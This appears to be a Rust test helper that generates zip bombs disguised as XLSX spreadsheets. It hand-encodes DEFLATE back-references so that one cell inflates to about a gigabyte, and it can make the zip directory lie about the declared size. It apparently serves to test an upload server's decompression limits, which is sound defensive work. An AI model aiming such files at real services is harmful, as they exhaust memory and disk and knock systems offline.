//! Zip bombs in XLSX clothing, generated in memory: a real workbook whose first sheet is
//! replaced by one holding a single inline cell of `n` repeated bytes. The sheet is a raw
//! DEFLATE stream written by hand (fixed Huffman codes, one literal then back-references of
//! length 258 at distance 1), so a 1 GB cell costs a few MB and no compression time.

use std::io::{Cursor, Read};

/// What the zip's directory says the sheet decompresses to.
#[derive(Debug, Clone, Copy)]
pub enum Declared {
    /// The real size.
    Truly,
    /// A lie: this many bytes.
    Lie(u32),
}

/// An XLSX whose sheet has a header row `firstname,lastname,email` and then one cell of
/// `cell_bytes` × `x` (a cell of about 1 GB comes out at about 7 MB).
pub fn xlsx_bomb(cell_bytes: u64, declared: Declared) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, h) in ["firstname", "lastname", "email"].iter().enumerate() {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    let original = book.save_to_buffer().unwrap();
    let mut source = zip::ZipArchive::new(Cursor::new(original)).unwrap();
    let mut entries = Vec::new();
    for i in 0..source.len() {
        let mut entry = source.by_index(i).unwrap();
        let name = entry.name().to_string();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        if name == "xl/worksheets/sheet1.xml" {
            entries.push(bomb_sheet(&name, cell_bytes, declared));
        } else {
            let crc = crc32fast::hash(&data);
            let size = data.len() as u32;
            entries.push(Entry { name, method: 0, crc, size, data });
        }
    }
    write_zip(&entries)
}

struct Entry {
    name: String,
    /// 0 stored, 8 deflated.
    method: u16,
    crc: u32,
    /// Declared uncompressed size.
    size: u32,
    data: Vec<u8>,
}

fn bomb_sheet(name: &str, cell_bytes: u64, declared: Declared) -> Entry {
    let head = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
        <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>\
        <row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>firstname</t></is></c>\
        <c r=\"B1\" t=\"inlineStr\"><is><t>lastname</t></is></c>\
        <c r=\"C1\" t=\"inlineStr\"><is><t>email</t></is></c></row>\
        <row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>";
    let tail = "</t></is></c></row></sheetData></worksheet>";
    let size = match declared {
        Declared::Truly => u32::try_from(head.len() as u64 + cell_bytes + tail.len() as u64).unwrap(),
        Declared::Lie(n) => n,
    };
    Entry {
        name: name.into(),
        method: 8,
        crc: crc(head, cell_bytes, tail),
        size,
        data: deflate_run(head, b'x', cell_bytes, tail),
    }
}

/// The CRC-32 of the sheet when it is small enough to be read to its end; a bomb's is never
/// checked (the server stops reading long before the end), so it is left 0 rather than
/// computed over a gigabyte.
fn crc(head: &str, cell_bytes: u64, tail: &str) -> u32 {
    if cell_bytes > 1 << 20 {
        return 0;
    }
    let mut hasher = crc32fast::Hasher::new();
    hasher.update(head.as_bytes());
    hasher.update(&vec![b'x'; cell_bytes as usize]);
    hasher.update(tail.as_bytes());
    hasher.finalize()
}

/// Bits written least significant first, as DEFLATE packs them.
#[derive(Default)]
struct Bits {
    out: Vec<u8>,
    acc: u64,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u32, len: u32) {
        self.acc |= u64::from(value) << self.n;
        self.n += len;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }
    /// A Huffman code, which DEFLATE writes most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        let reversed = (0..len).fold(0, |r, i| r | (((code >> i) & 1) << (len - 1 - i)));
        self.put(reversed, len);
    }
    /// A literal byte in the fixed Huffman code (RFC 1951 §3.2.6).
    fn literal(&mut self, b: u8) {
        let b = u32::from(b);
        if b < 144 {
            self.code(0x30 + b, 8);
        } else {
            self.code(0x190 + b - 144, 9);
        }
    }
    fn finish(mut self) -> Vec<u8> {
        if self.n > 0 {
            self.out.push(self.acc as u8);
        }
        self.out
    }
}

/// One fixed-Huffman block: `head`, `count` × `byte`, `tail`.
fn deflate_run(head: &str, byte: u8, count: u64, tail: &str) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(1, 1); // BFINAL
    bits.put(1, 2); // BTYPE = fixed Huffman
    head.bytes().for_each(|b| bits.literal(b));
    bits.literal(byte);
    let mut left = count - 1;
    // Length 258 (symbol 285, code 11000101) then distance 1 (code 00000), reversed once.
    let length_258 = (0..8).fold(0, |r, i| r | (((0xC5 >> i) & 1) << (7 - i)));
    while left >= 258 {
        bits.put(length_258, 13);
        left -= 258;
    }
    (0..left).for_each(|_| bits.literal(byte));
    tail.bytes().for_each(|b| bits.literal(b));
    bits.code(0, 7); // end of block (symbol 256)
    bits.finish()
}

fn write_zip(entries: &[Entry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = out.len() as u32;
        let name = e.name.as_bytes();
        let common = |v: &mut Vec<u8>| {
            v.extend_from_slice(&20u16.to_le_bytes()); // version needed
            v.extend_from_slice(&0u16.to_le_bytes()); // flags
            v.extend_from_slice(&e.method.to_le_bytes());
            v.extend_from_slice(&0u16.to_le_bytes()); // time
            v.extend_from_slice(&0x21u16.to_le_bytes()); // date: 1980-01-01
            v.extend_from_slice(&e.crc.to_le_bytes());
            v.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            v.extend_from_slice(&e.size.to_le_bytes());
            v.extend_from_slice(&(name.len() as u16).to_le_bytes());
            v.extend_from_slice(&0u16.to_le_bytes()); // extra length
        };
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        common(&mut out);
        out.extend_from_slice(name);
        out.extend_from_slice(&e.data);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&20u16.to_le_bytes()); // version made by
        common(&mut central);
        central.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
        central.extend_from_slice(&[0; 4]); // external attributes
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name);
    }
    let (cd_offset, cd_size) = (out.len() as u32, central.len() as u32);
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]); // disk numbers
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&cd_size.to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes()); // comment length
    out
}

#[test]
fn a_small_bomb_decompresses_to_what_it_claims() {
    let bomb = xlsx_bomb(100_000, Declared::Truly);
    let mut zip = zip::ZipArchive::new(Cursor::new(bomb)).unwrap();
    let mut sheet = zip.by_name("xl/worksheets/sheet1.xml").unwrap();
    let mut text = String::new();
    sheet.read_to_string(&mut text).unwrap();
    assert!(text.contains(&format!("<t>{}</t>", "x".repeat(100_000))), "{}", text.len());
}
